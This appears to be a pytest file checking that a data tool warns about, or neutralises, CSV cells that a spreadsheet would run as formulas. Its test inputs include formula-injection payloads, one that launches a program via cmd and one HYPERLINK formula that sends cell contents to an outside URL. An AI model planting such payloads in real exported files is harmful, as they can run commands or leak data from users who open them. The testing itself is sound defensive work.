"""What a spreadsheet would run is written as it is with a warning, or made text."""

import csv
from io import StringIO
from pathlib import Path

import pytest

from conftest import Hitech
from worlds import indicator, level, save, world

FORMULAS = [
    "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", '=HYPERLINK("http://example.org?"&A1,"a")', "-", "--help",
]  # fmt: skip
HARMLESS = ["-5", "+5.25", "a=b", "1-2", " x", "'=1", "(5)", "−5 °C", "é", ""]


def dataset(folder: Path, name: str) -> Path:
    raw = world(indicator(level("2020", "-5", wording=name), id="i", may_be_negative=True))
    return save(folder, raw)


def wording(out: str) -> str:
    return next(csv.DictReader(StringIO(out, newline="")))["wording"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_it_is_with_a_warning(
    hitech: Hitech, tmp_path: Path, text: str
) -> None:
    ran = hitech("filter", "--data", dataset(tmp_path, text), "-f", "csv")

    assert wording(ran.out) == text
    assert ran.code == 0
    assert ran.err == (
        "hitech: 2 cells begin as formulas do, which a spreadsheet may run;"
        " --spreadsheet-safe makes them text.\n"
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_with_an_apostrophe(
    hitech: Hitech, tmp_path: Path, text: str
) -> None:
    file = dataset(tmp_path, text)
    ran = hitech("filter", "--data", file, "-f", "csv", "--spreadsheet-safe")
    row = next(csv.DictReader(StringIO(ran.out, newline="")))

    assert (ran.code, ran.err) == (0, "")
    assert (row["wording"], row["text"], row["value"]) == (f"'{text}", "'-5 yuan", "-5")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(hitech: Hitech, tmp_path: Path, text: str) -> None:
    ran = hitech("filter", "--data", dataset(tmp_path, text), "-f", "csv", "--spreadsheet-safe")

    assert wording(ran.out) == text


def test_nothing_is_said_where_there_is_no_formula(hitech: Hitech) -> None:
    for command in (["list"], ["show", "patents"], ["growth", "operating-income"]):
        assert hitech(*command, "-f", "csv").err == ""


def test_one_cell_is_one(hitech: Hitech, tmp_path: Path) -> None:
    raw = world(indicator(level("2020", 5, wording="=1"), id="i"))

    assert "1 cell begins" in hitech("list", "--data", save(tmp_path, raw), "-f", "csv").err


@pytest.mark.parametrize("form", ["table", "record", "json", "markdown"])
def test_only_csv_is_for_spreadsheets(hitech: Hitech, form: str) -> None:
    ran = hitech("list", "-f", form, "--spreadsheet-safe")

    assert (ran.code, ran.out) == (2, "")
    assert f"--spreadsheet-safe is for CSV, and the format is {form}." in ran.err
